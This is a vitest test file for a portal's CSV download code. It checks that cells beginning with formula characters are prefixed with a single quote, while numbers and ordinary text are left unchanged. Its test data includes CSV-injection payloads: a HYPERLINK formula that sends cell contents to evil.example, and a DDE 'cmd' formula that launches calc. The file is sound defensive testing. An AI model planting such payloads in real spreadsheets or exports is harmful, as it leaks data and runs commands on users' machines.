/** CSV downloads (src/site/csv.ts): formula cells disarmed, numbers untouched; the open-data files go through it. */
import { parse } from 'csv-parse/sync';
import { describe, expect, it } from 'vitest';
import { buildPortal, type Portal } from '../../src/content/portal.ts';
import { loadContent } from '../../src/content/load.ts';
import { csvDownload, neutraliseCell } from '../../src/site/csv.ts';
import { TABLES, toCsv, type Table } from '../../src/site/opendata.ts';

const FORMULAS = ['=HYPERLINK("http://evil.example/?"&A1,"点此查看")', '+1+cmd|\' /C calc\'!A0', '-2+3', '@SUM(A1:A9)', '\t=1+1', '\r=1+1'];
const read = (csv: string) => parse(csv.replace(/^\uFEFF/, ''), { relax_column_count: true }) as string[][];

describe('CSV cells that spreadsheet programs would run as formulas', () => {
  it('are prefixed with a single quote; other text is left as it is', () => {
    for (const f of FORMULAS) expect(neutraliseCell(f)).toBe(`'${f}`);
    for (const t of ['排污口', 'a=b', ' =1', "'=1", '', '２０２６', '＝1']) expect(neutraliseCell(t)).toBe(t);
  });

  it('in a download: every text cell neutralised, numbers written as numbers untouched, BOM first', () => {
    const csv = csvDownload([['文本', '数'], ...FORMULAS.map((f, i) => [f, -i])], { record_delimiter: 'windows' });
    expect(csv.startsWith('\uFEFF')).toBe(true);
    const rows = read(csv).slice(1);
    expect(rows.map((r) => r[0])).toEqual(FORMULAS.map((f) => `'${f}`));
    expect(rows.map((r) => r[1])).toEqual(FORMULAS.map((_, i) => String(-i)));
  });

  it('keeps a cell with a line break in one cell (quoted), whatever the record delimiter', () => {
    const rows = read(csvDownload([['措施一\n措施二', '甲\r乙', 'x']], { record_delimiter: 'windows' }));
    expect(rows).toEqual([['措施一\n措施二', '甲\r乙', 'x']]);
  });

  it('in the open-data tables: text from the content is neutralised, figures are not', () => {
    const table: Table = { name: 't', title: '测试', columns: { note: '说明', value: '数值', done: '完成' }, rows: () => FORMULAS.map((f, i) => ({ note: f, value: -i, done: i % 2 === 0 })) };
    const rows = read(toCsv(table, {} as Portal));
    expect(rows[0]).toEqual(['note', 'value', 'done']);
    expect(rows.slice(1)).toEqual(FORMULAS.map((f, i) => [`'${f}`, String(-i), i % 2 === 0 ? '是' : '否']));
  });

  it('no cell of the real open-data files starts a formula, and every row has every column', () => {
    const portal = buildPortal(loadContent().content, '2026-11-23');
    for (const table of TABLES) {
      const rows = read(toCsv(table, portal));
      expect(rows.every((r) => r.length === Object.keys(table.columns).length), table.name).toBe(true);
      for (const cell of rows.flat()) expect(cell, table.name).not.toMatch(/^[=+\-@\t\r]/);
    }
  });
});
